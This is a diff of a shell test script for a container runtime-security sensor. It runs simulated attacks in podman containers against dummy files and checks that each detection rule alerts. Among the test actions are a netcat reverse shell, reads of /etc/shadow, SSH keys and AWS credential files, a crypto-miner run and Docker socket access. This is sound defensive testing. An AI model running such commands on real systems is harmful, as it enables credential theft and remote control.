@@ -3,7 +3,6 @@
 # podman container and exactly that rule (set) must alert, attributed to that container; then a web
 # service with health checks and a client loop runs RB_QUIET_SECS seconds (default 20 in CI; the
 # soak of the issue, 300 s, is bench/rules-quiet.sh) with zero alerts.
-# Known limits of the sensor are printed as GAP lines and counted, not failed.
 # BH_RULES_RECORD=FILE writes the events of every action as `rules test` cases (how
 # tests/fixtures/rules/default-tests.yaml's recorded part was made).
 set -uo pipefail
@@ -12,7 +11,7 @@ export CONTAINERS_CONF=${CONTAINERS_CONF:-$(cd "$(dirname "$0")/../../.." && pwd
 HERE=$(cd "$(dirname "$0")" && pwd)
 . "$HERE/podman.sh"
 QUIET=${RB_QUIET_SECS:-20}
-pass=0; fail=0; gaps=0
+pass=0; fail=0
 ok() { pass=$((pass + 1)); echo "PASS rules-default: $1"; }
 ko() { fail=$((fail + 1)); echo "FAIL rules-default: $1: $2"; }
 skip() { echo "SKIP rules-default: $1"; echo "rules-default: 0 passed, 0 failed (skipped)"; exit 0; }
@@ -62,6 +61,7 @@ printf 'root:x:0:0:root:/root:/bin/bash\napp:x:1000:1000:app:/home/app:/bin/bash
 printf 'root:*:19000:0:99999:7:::\napp:*:19000:0:99999:7:::\n' >"$R/etc/shadow" && chmod 640 "$R/etc/shadow"
 echo 'not a key' >"$R/root/.ssh/id_rsa" && chmod 600 "$R/root/.ssh/id_rsa"
 printf '[default]\naws_access_key_id = none\n' | tee "$R/root/.aws/credentials" >"$R/home/app/.aws/credentials"
+echo 'a note' >"$R/home/app/notes.txt"
 chown -R 1000:1000 "$R/home/app"
 tar -C "$R" -cf "$T/rootfs.tar" .
 podman import -q "$T/rootfs.tar" "$img" >/dev/null 2>"$T/import.err" || skip "podman import failed: $(head -2 "$T/import.err")"
@@ -140,12 +140,16 @@ act "write below /etc" "$app" "Write below etc" $X "$app" /bin/bash -c 'echo "x:
 act "read /etc/shadow" "$app" "Read of shadow or sudoers file" $X "$app" /bin/cat /etc/shadow
 act "read ~/.ssh/id_rsa" "$app" "Read of SSH keys or cloud credentials" $X "$app" /bin/cat /root/.ssh/id_rsa
 act "read ~/.aws/credentials" "$app" "Read of SSH keys or cloud credentials" $X "$app" /bin/cat /root/.aws/credentials
+act "uid 1000 reads /home/app/.aws/credentials" "$app" "Read of SSH keys or cloud credentials" \
+	$X -u 1000 "$app" /bin/cat /home/app/.aws/credentials
+act "uid 1000 reads /home/app/notes.txt" "$app" "" $X -u 1000 "$app" /bin/cat /home/app/notes.txt
 act "connect to a pool port (3333)" "$app" "Outbound connection to a mining pool port" $X "$app" /opt/bhr/act connect "$peer_ip" 3333
 act "miner by name" "$app" "Crypto miner run" $X "$app" /opt/bhr/xmrig --donate-level 1
 act "reverse shell (nc -e /bin/sh)" "$app" "Reverse shell" $X "$app" /usr/bin/nc "$peer_ip" 9001 -e /bin/sh
 act "listen on 31337" "$app" "New listening port" $X "$app" /opt/bhr/act listen 31337
 act "setuid root program by uid 1000" "$app" "Setuid program run" $X -u 1000 "$app" /opt/bhr/suid-true
 act "setuid(0) by uid 1000 (saved uid 0)" "$app" "Non-root process set uid 0" $X "$app" /opt/bhr/act setuid0
+act "refused setuid(0) by uid 1000" "$app" "" $X -u 1000 "$app" /opt/bhr/act setuid0-fail
 act "capset raising CAP_SYS_ADMIN" "$priv" "Capability gain in container" $X "$priv" /opt/bhr/act capset
 act "engine socket connect" "$app" "Container runtime socket access" $X "$app" /opt/bhr/act unix-connect /var/run/docker.sock
 act "memfd exec" "$app" "Fileless execution" $X "$app" /opt/bhr/act memfd
@@ -173,19 +177,6 @@ for r in $("$BH" rules list --runtime -f json | jq -r '.rules[].rule' | tr ' ' '
 	[ "$r" = "Kernel module loaded from container" ] && [ $module_hook = no ] && continue
 	ko "coverage" "no action for \"$r\""
 done
-
-# known limits, shown and counted (not failed): the sensor reports reads of credential files only
-# under /root, and setuid(2) at its entry (so a refused call looks like a successful one)
-gap() { gaps=$((gaps + 1)); echo "GAP rules-default: $1"; }
-act_gap() {
-	local name=$1 ctr=$2 expect=$3; shift 3
-	"$@" >/dev/null 2>&1; mark
-	local got; got=$(alerts_in "$nmark" | cut -f2 | tr '\n' ';')
-	[ "$got" = "${expect:+$expect;}" ] && ok "$name -> ${expect:-no alert}" || gap "$name: want [${expect}] got [$got]"
-}
-act_gap "uid 1000 reads /home/app/.aws/credentials" "$app" "Read of SSH keys or cloud credentials" \
-	$X -u 1000 "$app" /bin/cat /home/app/.aws/credentials
-act_gap "refused setuid(0) by uid 1000" "$app" "" $X -u 1000 "$app" /opt/bhr/act setuid0-fail
 
 # --- recorded cases for `rules test` (the events of each action window, with what alerted)
 if [ -n "${BH_RULES_RECORD:-}" ]; then
@@ -227,5 +218,5 @@ echo "  quiet: ${QUIET}s, $nev events ($nget client requests seen, $nacc accepts
 kill -INT $wpid; wait $wpid; rc=$?; wpid=
 [ -n "${BH_RULES_RECORD:-}" ] && cp "$T/events" "$BH_RULES_RECORD.events"
 [ $rc -eq 0 ] && ok "watch stopped cleanly" || ko "watch exit status" "$rc: $(tail -2 "$T/watch.err")"
-echo "rules-default: $pass passed, $fail failed, $gaps known gaps"
+echo "rules-default: $pass passed, $fail failed"
 [ "$fail" -eq 0 ]
